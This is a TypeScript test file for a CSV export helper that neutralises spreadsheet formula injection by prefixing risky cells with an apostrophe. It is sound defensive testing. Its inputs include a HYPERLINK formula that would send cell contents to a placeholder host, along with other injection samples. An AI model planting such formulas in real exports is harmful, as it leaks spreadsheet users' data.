import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvCell, recordsToCsv, toCsv } from '@/lib/http/csv';

/** What a spreadsheet would evaluate: text (after CSV unquoting) that starts a formula. */
const live = (text: string) => /^[=+\-@\t\r]/.test(text) && !/^-?\d+(\.\d+)?$/.test(text);

describe('csv writer', () => {
  it.each([
    ['=HYPERLINK("http://x/?"&A1,"grade")', `"'=HYPERLINK(""http://x/?""&A1,""grade"")"`],
    ['+SUM(1,1)', `"'+SUM(1,1)"`],
    ['-2+3', `"'-2+3"`],
    ['@cmd', `"'@cmd"`],
    ['+student@example.test', `"'+student@example.test"`],
    ['\tname', `"'\tname"`],
    ['\rname', `"'\rname"`],
  ])('escapes the formula-leading cell %j', (input, expected) => {
    expect(csvCell(input)).toBe(expected);
  });

  it('leaves data alone: names, negative numbers, numbers, empty cells', () => {
    expect(csvCell('Ada Lovelace')).toBe('Ada Lovelace');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell('-3')).toBe('-3');
    expect(csvCell('-0.5')).toBe('-0.5');
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell(12.5)).toBe('12.5');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(Number.NaN)).toBe('');
    expect(csvCell(true)).toBe('true');
  });

  it('quotes commas, quotes and line breaks (RFC 4180)', () => {
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
  });

  it('writes a header and rows, header cells escaped too', () => {
    expect(toCsv(['name', '=1+1 score'], [['Ada', 90], ['+x', null]])).toBe(`name,"'=1+1 score"\r\nAda,90\r\n"'+x",\r\n`);
    expect(recordsToCsv([{ a: 1, b: '@b' }], { newline: '\n' })).toBe(`a,b\n1,"'@b"\n`);
    expect(recordsToCsv([])).toBe('\r\n');
  });

  it('round-trips any text through a CSV parser, and no parsed cell is a live formula', () => {
    fc.assert(
      fc.property(fc.array(fc.array(fc.oneof(fc.string(), fc.constantFrom('=1+1', '+1', '-a', '@a', '\t=1', '\r=1', '-3')), { minLength: 2, maxLength: 2 }), { minLength: 1, maxLength: 5 }), (rows) => {
        const parsed = Papa.parse<string[]>(toCsv(['a', 'b'], rows), { newline: '\r\n', skipEmptyLines: false }).data.slice(1, rows.length + 1);
        for (const [i, row] of rows.entries()) {
          for (const [j, cell] of row.entries()) {
            const out = parsed[i]?.[j] as string;
            expect(live(out)).toBe(false);
            expect(out).toBe(live(cell) ? `'${cell}` : cell);
          }
        }
      }),
    );
  });
});
